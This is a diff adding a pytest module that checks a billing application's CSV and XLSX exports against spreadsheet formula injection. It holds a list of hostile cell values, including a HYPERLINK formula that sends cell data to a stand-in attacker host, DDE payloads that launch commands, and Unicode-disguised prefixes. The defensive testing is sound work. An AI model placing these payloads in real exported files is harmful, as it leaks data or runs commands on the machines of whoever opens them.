@@ -1,0 +1,181 @@
+"""Formula injection: every CSV and XLSX the program writes, with cells that a spreadsheet would run."""
+
+import csv
+import datetime
+import io
+import re
+import unicodedata
+import zipfile
+from dataclasses import replace
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from billing import review_sheets
+from billing.models import Charge, Person
+from journals.formats import BUILT_IN, TemplateFormat
+from journals.formats.documents import as_csv, as_spreadsheet
+from journals.formats.sample import sample
+from statements import sheets
+from statements.document import Figures, Line, Resource, Section, StatementDocument
+from tests import build
+
+ROOT = Path(__file__).resolve().parent.parent
+
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
+HOSTILE = (
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\ufeff=1+1",
+    "\u200b=1+1",
+    "\u202e=1+1",
+    "\x00=1+1",
+    "\x0b=1+1",
+    "＝1+1",
+    "＠SUM(A1)",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '"=1+1',
+    "a\n=1+1",
+    'x","=1+1',
+    "-2+3+cmd|' /C calc'!A0",
+)
+
+
+def runs(cell: str) -> bool:
+    """Say whether a spreadsheet could take a cell for a formula: worked out apart from `billing.sheets`."""
+    if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell):
+        return False
+    seen = "".join(each for each in cell if unicodedata.category(each)[0] not in "CZ")
+    return cell.startswith(STARTS) or seen.startswith(STARTS)
+
+
+def cells_of_csv(content: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
+
+
+def check_csv(content: bytes, hostile: str) -> None:
+    cells = cells_of_csv(content)
+    assert [cell for cell in cells if runs(cell)] == []
+    # The text is there: it was defused and not left out.
+    assert any(hostile in cell for cell in cells)
+
+
+def check_xlsx(content: bytes) -> None:
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        for name in book.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f" not in re.sub(rb"<(formula|fonts?|fills?)[ >/12]", b"", book.read(name)), name
+    values = [
+        cell
+        for sheet in load_workbook(io.BytesIO(content)).worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
+    assert values
+    assert [cell.value for cell in values if cell.data_type == "f"] == []
+    # What looks like a formula is text even after somebody has edited the cell.
+    assert all(cell.quotePrefix for cell in values if isinstance(cell.value, str) and runs(cell.value))
+
+
+def statement_of(hostile: str) -> StatementDocument:
+    figures = Figures(Decimal(3), Decimal(2), Decimal(1))
+    line = Line(
+        source=hostile,
+        service=hostile,
+        correction=hostile,
+        natural_account=hostile,
+        charge_count=1,
+        figures=figures,
+        resources=(Resource(name=hostile, resource_id=hostile, count=1, figures=figures),),
+    )
+    return StatementDocument(
+        number="2025-01-0001-1",
+        reference="2025-01-0001",
+        revision=1,
+        month=datetime.date(2025, 1, 1),
+        issued_on=datetime.date(2025, 2, 3),
+        currency="USD",
+        institution=hostile,
+        pi_name=hostile,
+        pi_email=hostile,
+        project_code=hostile,
+        figures=figures,
+        sections=(Section(fund_org=hostile, fund_name=hostile, lines=(line,)),),
+    )
+
+
+def journal_of(hostile: str):
+    document = sample(("fund",))
+    texts = ("fund_org", "natural_account", "description", "pi_email", "pi_name", "project", "source", "service")
+    lines = [replace(line, **dict.fromkeys(texts, hostile), segments={"fund": hostile}) for line in document.lines]
+    return replace(document, lines=lines)
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_statements(hostile):
+    check_csv(sheets.as_csv(statement_of(hostile)), hostile)
+    check_xlsx(sheets.as_xlsx(statement_of(hostile)))
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("name", BUILT_IN)
+def test_journals(hostile, name):
+    table = BUILT_IN[name].table(journal_of(hostile))
+    check_csv(as_csv(table).content, hostile)
+    check_xlsx(as_spreadsheet(BUILT_IN[name].table(journal_of(hostile)), title="=1+1").content)
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_journals_by_a_template(hostile):
+    line = '{{ line.description }},"{{ line.fund_org }}",x{{ line.project }}, {{ line.pi_name }},={{ line.pi_email }}'
+    check_csv(TemplateFormat("own", "=1+1,@x", line, "+1").write(journal_of(hostile)).content, hostile)
+
+
+@pytest.mark.django_db
+def test_review_sheets():
+    for number, hostile in enumerate(HOSTILE):
+        # A database keeps no null characters.
+        text = hostile.replace("\x00", "")
+        build.a_charge(
+            flags=("missing_pi",),
+            project=f"{text}{number}",
+            service_name=text,
+            resource_name=text,
+            fund_org=text,
+        )
+    Person.objects.update(name="=1+1")
+    file = io.BytesIO()
+    review_sheets.export(charges=Charge.objects.all(), file=file)
+    check_xlsx(file.getvalue())
+
+
+# Where a file for a spreadsheet is made, and the test above that looks at it.
+WRITERS = {
+    "billing/review_sheets.py": test_review_sheets,
+    "statements/sheets.py": test_statements,
+    "journals/formats/documents.py": test_journals,
+    "journals/formats/templated.py": test_journals_by_a_template,
+}
+
+
+def test_every_writer_of_spreadsheets_is_tested_here():
+    making = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\.to_(csv|excel)\(")
+    found = {
+        str(path.relative_to(ROOT))
+        for app in ("billing", "statements", "journals", "openchargeback")
+        for path in (ROOT / app).rglob("*.py")
+        if making.search(path.read_text(encoding="utf-8"))
+    }
+    assert found == set(WRITERS), "Write cells by billing/sheets.py, and add a test with HOSTILE cells to this module."
